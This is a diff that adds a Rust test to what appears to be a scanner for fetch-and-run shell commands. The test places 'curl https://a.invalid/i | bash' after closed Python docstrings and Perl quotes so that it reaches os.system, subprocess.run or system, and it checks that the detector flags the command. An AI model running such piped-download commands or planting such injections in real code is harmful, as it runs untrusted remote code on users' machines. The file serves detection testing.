@@ -309,6 +309,31 @@ fn what_only_reads_or_stores_a_download_is_not_found() {
 }
 
 #[test]
+fn a_string_may_follow_the_end_of_a_text() {
+    let command = "curl https://a.invalid/i | bash";
+    for (before, after) in [
+        (
+            "\"\"\"Dates.\n\nUse it.\"\"\"; import os; os.system(\"",
+            "\")",
+        ),
+        ("x=\"\"\"\n\"\"\";os.system(\"", "\")"),
+        ("\"\"\"\ndon't\"\"\"; os.system('", "')"),
+        (
+            "\"\"\"\nUse curl.\"\"\"; subprocess.run([\"bash\",\"-c\",\"",
+            "\"])",
+        ),
+        ("my $q=q(\");system(\"", "\");"),
+    ] {
+        let text = format!("{before}{command}{after}\n");
+        let found = run(&text);
+        assert!(
+            found.contains(&(Signal::FetchRun, command)),
+            "{text}: {found:?}"
+        );
+    }
+}
+
+#[test]
 fn a_place_is_in_the_original_text() {
     let text = "x\ncurl https://a.invalid/i \\\n  | \\\n  sudo \"sh\" -x\n";
     assert_eq!(
